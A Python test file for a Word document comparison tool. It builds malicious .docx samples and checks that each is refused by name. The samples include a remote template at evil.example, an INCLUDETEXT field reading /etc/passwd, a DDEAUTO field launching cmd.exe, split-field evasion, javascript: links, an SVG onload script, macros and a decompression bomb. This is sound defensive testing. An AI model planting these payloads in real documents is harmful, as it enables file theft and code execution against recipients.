"""Word files that somebody made to do harm: refused by name, nothing written, nobody harmed.

The letters are those of the attack corpus in the project's threat model.
"""

import io
import struct
import zipfile

import pytest

from core.documents.tracked.corpus.parts import PICTURE, field, p, package, picture
from core.documents.tracked.corpus.written import FILES
from core.documents.tracked.round_trip import AT
from uratibu.core.documents.tracked import apart, hazards
from uratibu.core.findings import Refused
from uratibu.core.intake.child import Limits

HUGE = PICTURE[:16] + struct.pack(">II", 50_000, 50_000) + PICTURE[24:]
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def with_part(content, name, inside):
    """The file with one part more, or in place of one of this name."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, inside)
    return out.getvalue()


def relation(kind, target):
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="x1" Type="{OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


def many_paragraphs():
    return package("<w:p/>" * 3_000_000)


def nested(times):
    head = "<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc>"
    return package(head * times + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * times + "<w:p/>")


ATTACKS = {
    "d01 three million paragraphs": (many_paragraphs, "tracked/bomb"),
    "d02 template from the network": (
        lambda: with_part(
            FILES["plain"](),
            "word/_rels/settings.xml.rels",
            relation("attachedTemplate", "https://evil.example/t.dotm"),
        ),
        "tracked/remote-template",
    ),
    "d02 template from a share": (
        lambda: with_part(
            FILES["plain"](),
            "word/_rels/settings.xml.rels",
            relation("attachedTemplate", "file://evil/t.dotm"),
        ),
        "tracked/remote-template",
    ),
    "d03 text of another file": (
        lambda: package(p(inside=field("INCLUDETEXT /etc/passwd", "x"))),
        "tracked/fetching-field",
    ),
    "d03 program through DDE": (
        lambda: package(p(inside=field("DDEAUTO c:\\\\cmd.exe", "x"))),
        "tracked/fetching-field",
    ),
    "d03 field cut in two runs": (
        lambda: package(
            p(
                inside=field("INCLUDETEXT a", "x").replace(
                    "INCLUDETEXT", "INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT"
                )
            )
        ),
        "tracked/fetching-field",
    ),
    "d05 link that is a script": (
        lambda: package(p("x"), links=[("l1", "hyperlink", "javascript:alert(1)")]),
        "tracked/link",
    ),
    "d05 script behind a space": (
        lambda: package(p("x"), links=[("l1", "hyperlink", " java&#10;script:alert(1)")]),
        "tracked/link",
    ),
    "d06 object of another program": (
        lambda: with_part(FILES["plain"](), "word/embeddings/oleObject1.bin", b"x"),
        "tracked/active-content",
    ),
    "d06 object in the text": (
        lambda: package(p(inside="<w:r><w:object/></w:r>")),
        "tracked/embedded",
    ),
    "d07 picture of 2,500 million points": (
        lambda: with_part(FILES["pictures"](), "word/media/image1.png", HUGE),
        "tracked/picture-too-large",
    ),
    "d08 drawing with a script": (
        lambda: with_part(
            FILES["plain"](),
            "word/media/a.svg",
            '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
        ),
        "tracked/script",
    ),
    "d09 document type in a custom part": (
        lambda: with_part(
            FILES["plain"](), "customXml/item1.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
        ),
        "tracked/document-type",
    ),
    "d10 tables 10,000 deep": (lambda: nested(10_000), "tracked/too-deep"),
    "macros": (
        lambda: with_part(FILES["plain"](), "word/vbaProject.bin", b"x"),
        "tracked/active-content",
    ),
    "picture from the network": (
        lambda: with_part(
            package(p(inside=picture("x1"))),
            "word/_rels/document.xml.rels",
            relation("image", "https://evil.example/p.png"),
        ),
        "tracked/remote-part",
    ),
    "an old Word file": (lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, "tracked/other-content"),
    "no Word file": (lambda: b"%PDF-1.7", "tracked/other-content"),
    "an empty file": (lambda: b"", "tracked/other-content"),
}


@pytest.mark.parametrize("side", ["old", "new"])
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_an_attack_is_refused_by_name(attack, side, tmp_path):
    make, rule = ATTACKS[attack]
    paths = {"old": tmp_path / "old.docx", "new": tmp_path / "new.docx"}
    for path in paths.values():
        path.write_bytes(FILES["plain"]())
    paths[side].write_bytes(make())

    with pytest.raises(Refused) as refused:
        apart.compare_files(paths["old"], paths["new"], author="S", at=AT)

    assert rule in {finding.rule for finding in refused.value.findings}
    assert {finding.where.file for finding in refused.value.findings} == {str(paths[side])}
    assert sorted(tmp_path.iterdir()) == sorted(paths.values())


def test_names_of_people_in_the_file_are_the_new_files_own(tmp_path):
    """d04: what the old file says of its authors does not travel."""
    about = '<cp xmlns="x"><creator>Whoever wrote the old one</creator></cp>'
    old, new = tmp_path / "old.docx", tmp_path / "new.docx"
    old.write_bytes(with_part(FILES["plain"](), "docProps/core.xml", about))
    new.write_bytes(FILES["headings"]())

    tracked = apart.compare_files(old, new, author="S", at=AT)

    with zipfile.ZipFile(io.BytesIO(tracked.content)) as archive:
        assert not any(b"Whoever wrote" in archive.read(name) for name in archive.namelist())


def test_a_comparison_that_takes_too_much_is_given_up_and_the_next_one_works(tmp_path):
    old, new = tmp_path / "old.docx", tmp_path / "new.docx"
    old.write_bytes(FILES["plain"]())
    new.write_bytes(FILES["headings"]())

    with pytest.raises(Refused) as refused:
        apart.compare_files(old, new, author="S", at=AT, limits=Limits(wall_seconds=0))

    assert [f.rule for f in refused.value.findings] == ["tracked/reader-stopped"]
    assert apart.compare_files(old, new, author="S", at=AT).is_exact


def test_links_that_lead_to_pages_and_letters_pass(tmp_path):
    targets = ("https://example.org/a:b", "mailto:a@example.org", "page.html", "tel:+254700000000")
    links = [(f"l{n}", "hyperlink", target) for n, target in enumerate(targets)]
    path = tmp_path / "links.docx"
    path.write_bytes(package(p("x"), links=links))

    assert apart.look(path, "links.docx") == ()


@pytest.mark.parametrize(
    "head",
    [
        HUGE,
        b"GIF89a" + struct.pack("<HH", 50_000, 9),
        b"BM" + b"\0" * 16 + struct.pack("<ii", 9, -50_000),
        b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x11\x08" + struct.pack(">HH", 9, 50_000),
    ],
)
def test_the_size_of_a_picture_is_read_from_its_head(head):
    assert max(hazards.size_of(head)) == 50_000


def test_a_picture_that_does_not_say_its_size_has_none():
    assert hazards.size_of(b"\xff\xd8\xff") == (0, 0)


def test_more_paragraphs_than_are_compared_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(hazards, "MOST_PARAGRAPHS", 5)
    path = tmp_path / "long.docx"
    path.write_bytes(FILES["headings"]())

    assert [f.rule for f in apart.look(path, "long.docx")] == ["tracked/too-many-paragraphs"]
